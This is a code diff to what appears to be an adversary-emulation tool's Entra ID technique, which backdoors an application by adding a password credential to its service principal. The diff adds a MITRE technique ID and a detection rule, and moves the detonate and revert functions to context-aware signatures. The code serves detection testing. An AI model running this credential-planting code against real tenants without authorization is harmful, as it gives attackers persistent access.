@@ -43,16 +43,23 @@ References:
 		Detection: `
 Using [Entra ID audit logs](https://learn.microsoft.com/en-us/entra/identity/monitoring-health/concept-audit-logs) with the activity type <code>Add service principal credentials</code>.
 `,
-		Platform:                   stratus.EntraID,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		Platform:              stratus.EntraID,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		MitreAttackTechniques: []string{"T1098.001"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"properties.message": {"Add service principal credentials"}},
+			},
+			FalsePositives: []string{"Administrators rotating the credentials of service principals"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	appObjectId := params["app_object_id"]
 	spAppId := params["sp_app_id"]
 	spObjectId := params["sp_object_id"]
@@ -61,7 +68,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 
 	log.Println("Backdooring Entra ID application " + appObjectId + " by creating a new credential on the associated service principal")
 
-	credentials, err := graphClient.ServicePrincipals().ByServicePrincipalId(spObjectId).AddPassword().Post(context.Background(), nil, nil)
+	credentials, err := graphClient.ServicePrincipals().ByServicePrincipalId(spObjectId).AddPassword().Post(ctx, nil, nil)
 	if err != nil {
 		return errors.New("could not create credential on associated service principal: " + err.Error())
 	}
@@ -92,13 +99,13 @@ az login --service-principal --allow-no-subscriptions \
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	spId := params["sp_object_id"]
 	graphClient := providers.EntraId().GetGraphClient()
 
 	log.Println("Listing password credentials for service principal " + spId)
 	spObject := graphClient.ServicePrincipals().ByServicePrincipalId(spId)
-	sp, err := spObject.Get(context.Background(), nil)
+	sp, err := spObject.Get(ctx, nil)
 	if err != nil {
 		return errors.New("could not retrieve service principal: " + err.Error())
 	}
@@ -107,7 +114,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 		log.Println("Deleting service principal credential with key ID " + (*credential.GetKeyId()).String())
 		req := graphmodels.NewPasswordCredential()
 		req.SetKeyId(credential.GetKeyId())
-		err := spObject.RemovePassword().Post(context.Background(), req, nil)
+		err := spObject.RemovePassword().Post(ctx, req, nil)
 		if err != nil {
 			return errors.New("could not delete service principal credentials: " + err.Error())
 		}